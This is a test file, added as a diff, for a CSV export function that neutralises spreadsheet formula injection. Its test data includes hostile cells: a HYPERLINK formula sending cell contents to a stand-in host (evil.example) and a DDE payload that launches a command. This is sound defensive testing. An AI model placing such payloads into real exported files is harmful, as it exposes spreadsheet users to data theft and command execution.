@@ -1,0 +1,74 @@
+import Papa from 'papaparse'
+import { describe, expect, it } from 'vitest'
+import { csvOf } from '../../../src/lib/format/csv.ts'
+
+const cellOf = (cell: string) =>
+  Papa.parse<string[]>(csvOf([[cell]]).slice(1), { delimiter: ';' }).data[0]?.[0]
+
+it('begins with the mark of UTF-8, parts cells by semicolons and ends lines as Windows does', () => {
+  expect(
+    csvOf([
+      ['Nome', 'Cidade'],
+      ['Ana', 'São Paulo'],
+    ]),
+  ).toBe('\uFEFFNome;Cidade\r\nAna;São Paulo\r\n')
+  expect(csvOf([])).toBe('\uFEFF')
+})
+
+it('quotes what would break a row', () => {
+  expect(csvOf([['a;b', 'diz "sim"', 'uma\nduas', 'três\r\nquatro', 'a,b']])).toBe(
+    '\uFEFF"a;b";"diz ""sim""";"uma\nduas";"três\r\nquatro";a,b\r\n',
+  )
+})
+
+it.each(['a;b', '"', '""', 'x\r\ny', ' espaço ', '', '🙂', 'Ã§'])('%j comes back as it was', (cell) =>
+  expect(cellOf(cell)).toBe(cell),
+)
+
+describe('a formula', () => {
+  it.each([
+    '=1+1',
+    '=HYPERLINK("https://evil.example?"&A1;"clique")',
+    "+cmd|'/C calc'!A0",
+    '-2+3',
+    '-cmd',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    '  =1+1',
+    '\u00a0=1+1',
+    '＝1+1',
+    '＋1+1',
+    '－1+1',
+    '＠SUM(A1)',
+    '\u200b=1+1',
+    '\uFEFF=1+1',
+    '\u202e=1+1',
+    '+55 11 98765-4321',
+    '-1;=2',
+    '-12,5=1',
+    '-1\n=1',
+  ])('%j is shown and not calculated', (cell) => expect(cellOf(cell)).toBe(`'${cell}`))
+
+  it('cannot come out of a cell through its quotes', () => {
+    expect(csvOf([['x";=1+1;"']])).toBe('\uFEFF"x"";=1+1;"""\r\n')
+  })
+})
+
+it.each([
+  '-12,5',
+  '-12.5',
+  '-1.234.567,89',
+  '+7',
+  '-0,5%',
+  '-R$\u00a01.234,50',
+  '31/01/2024',
+  '2024-01-31',
+  '31/01/2024, 15:04',
+  '111.444.777-35',
+  '—',
+  'R$\u00a012,00',
+  "D'Ávila",
+  'a=b',
+])('%j stays as it is', (cell) => expect(cellOf(cell)).toBe(cell))
